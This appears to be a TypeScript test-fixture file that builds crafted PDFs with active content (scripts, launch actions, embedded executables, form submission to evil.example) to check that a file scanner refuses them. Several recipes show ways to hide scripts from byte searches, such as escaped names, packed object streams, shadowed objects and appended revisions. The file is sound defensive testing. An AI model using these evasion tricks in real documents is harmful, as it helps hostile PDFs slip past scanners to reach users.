import { deflateSync } from 'node:zlib';

import { PDFName, PDFString } from 'pdf-lib';

import { openAction, pdf } from '../../support/bad-files';
import { kept, type Recipe, refused } from './bad-file';
import { handMade, onePage, type PdfObject, replaced } from './pdf-text';

const ACTIVE = refused('file.active-content');
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const opens = (action: string, more: readonly PdfObject[] = []): Buffer =>
  handMade(onePage(`/OpenAction ${action}`, more));
const catalog = (text: string, more: readonly PdfObject[] = []): Buffer => handMade(onePage(text, more));
const onThePage = (text: string): Buffer =>
  handMade(
    replaced(onePage(), {
      number: 3,
      value: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${text} >>`,
    }),
  );
const annotation = (text: string): Buffer =>
  onThePage(`/Annots [<< /Type /Annot /Rect [0 0 10 10] ${text} >>]`);

/** An action that is the thousandth follower of another, one inside the other. */
const followers = (depth: number): string =>
  `${'<< /S /GoTo /D [3 0 R /Fit] /Next '.repeat(depth)}${script}${' >>'.repeat(depth)}`;

/** An object stream, packed, with one action in it; no search of the bytes finds it. */
function inObjectStream(action: string, filters = 1): Buffer {
  const header = '9 0 ';
  let bytes = Buffer.from(header + action, 'latin1');
  for (let turn = 0; turn < filters; turn += 1) bytes = deflateSync(bytes);
  const filter = filters === 1 ? '/FlateDecode' : `[${'/FlateDecode '.repeat(filters)}]`;
  const stream: PdfObject = {
    number: 8,
    value: `<< /Type /ObjStm /N 1 /First ${String(header.length)} /Filter ${filter} >>`,
    stream: bytes,
  };
  return handMade(onePage('/OpenAction 9 0 R', [stream]));
}

/** The table points to the first object 5, readers of the whole file find the second one last. */
function shadowed(): Buffer {
  const bytes = opens('5 0 R', [{ number: 5, value: script }]).toString('latin1');
  const harmless = '5 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n';
  return Buffer.from(bytes.replace('xref\n', `${harmless}xref\n`), 'latin1');
}

const RECIPES: readonly Recipe[] = [
  ...['JavaScript', 'Launch', 'SubmitForm', 'ImportData'].flatMap((kind): Recipe[] => [
    [`${kind} in plain sight`, ACTIVE, () => pdf(openAction(kind), true)],
    [`${kind} in an object stream`, ACTIVE, () => pdf(openAction(kind))],
  ]),
  ['a jump to another file', kept('file.external-content'), () => pdf(openAction('GoToR'))],
  ['a jump into an attachment', ACTIVE, () => opens('<< /S /GoToE /T << /R /C /N (a) >> >>')],
  ['a script under a spelt name', ACTIVE, () => opens('<< /#53 /J#61vaScript /J#53 (app.alert\\(1\\)) >>')],
  [
    'a script as a stream',
    ACTIVE,
    () =>
      opens('<< /S /JavaScript /JS 7 0 R >>', [
        { number: 7, value: '<< >>', stream: Buffer.from('app.alert(1)') },
      ]),
  ],
  [
    'a script by reference of a reference',
    ACTIVE,
    () =>
      opens('7 0 R', [
        { number: 7, value: '<< /S 8 0 R /X 9 0 R >>' },
        { number: 8, value: '/JavaScript' },
        { number: 9, value: '(app.alert)' },
      ]),
  ],
  [
    'a script by its name tree',
    ACTIVE,
    () => catalog(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  ],
  ['a script when a page opens', ACTIVE, () => onThePage(`/AA << /O ${script} >>`)],
  ['a script when a page closes', ACTIVE, () => onThePage(`/AA << /C ${script} >>`)],
  ['a script when the file is printed', ACTIVE, () => catalog(`/AA << /WP ${script} >>`)],
  ['a script behind a link', ACTIVE, () => annotation(`/Subtype /Link /A ${script}`)],
  [
    'a script behind a field',
    ACTIVE,
    () => annotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} >>`),
  ],
  ['a script 70 followers deep', refused('file.active-content', 'file.bomb'), () => opens(followers(70))],
  [
    'a script 900 followers deep',
    refused('file.active-content', 'file.bomb', 'file.truncated'),
    () => opens(followers(900)),
  ],
  [
    'a script 200 lists deep',
    refused('file.active-content', 'file.bomb'),
    () => catalog(`/X ${'['.repeat(200)}${script}${']'.repeat(200)}`),
  ],
  ['a script in a packed object stream', ACTIVE, () => inObjectStream(script)],
  [
    'a script in an object stream packed thrice',
    refused('file.active-content', 'file.bomb'),
    () => inObjectStream(script, 3),
  ],
  ['a script that a later object hides', ACTIVE, shadowed],
  [
    'a script after the end',
    ACTIVE,
    () =>
      handMade(onePage(), {
        tail: `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`,
      }),
  ],
  ['a rendition that runs', ACTIVE, () => opens('<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>')],
  ['a film', ACTIVE, () => annotation('/Subtype /Movie /Movie << /F (a.avi) >> /A true')],
  [
    'a sound',
    ACTIVE,
    () =>
      opens('<< /S /Sound /Sound 7 0 R >>', [
        { number: 7, value: '<< /Type /Sound /R 8000 >>', stream: Buffer.alloc(8) },
      ]),
  ],
  ['a model in three dimensions', ACTIVE, () => annotation('/Subtype /3D /3DD 7 0 R')],
  ['rich media', ACTIVE, () => annotation('/Subtype /RichMedia /RichMediaContent << >>')],
  [
    'an attachment by its name tree',
    ACTIVE,
    () =>
      catalog('/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>', [
        { number: 7, value: '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>' },
        { number: 8, value: '<< /Type /EmbeddedFile >>', stream: Buffer.from('MZ') },
      ]),
  ],
  [
    'an attachment on a page',
    ACTIVE,
    () => annotation('/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 4 0 R >> >>'),
  ],
  [
    'an associated file',
    ACTIVE,
    () =>
      catalog('/AF [7 0 R]', [{ number: 7, value: '<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>' }]),
  ],
  [
    'a portfolio',
    ACTIVE,
    () => catalog('/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [] >> >>'),
  ],
  ['an XFA form', ACTIVE, () => catalog('/AcroForm << /XFA [(template) 4 0 R] /Fields [] >>')],
  [
    'a form that is sent away',
    ACTIVE,
    () => annotation('/Subtype /Widget /FT /Btn /T (a) /A << /S /SubmitForm /F (http://evil.example) >>'),
  ],
  ['a link to click', kept(), () => annotation('/Subtype /Link /A << /S /URI /URI (https://moj.gov.vn) >>')],
  ['a jump within itself', kept(), () => opens('<< /S /GoTo /D [3 0 R /Fit] >>')],
  ['a program that is run by a name', kept(), () => opens('<< /S /Named /N /NextPage >>')],
  [
    'text that only speaks of scripts',
    kept(),
    () =>
      pdf((document) => document.catalog.set(PDFName.of('About'), PDFString.of('/JavaScript /JS /Launch'))),
  ],
];

export function actionRecipes(): readonly Recipe[] {
  return RECIPES;
}
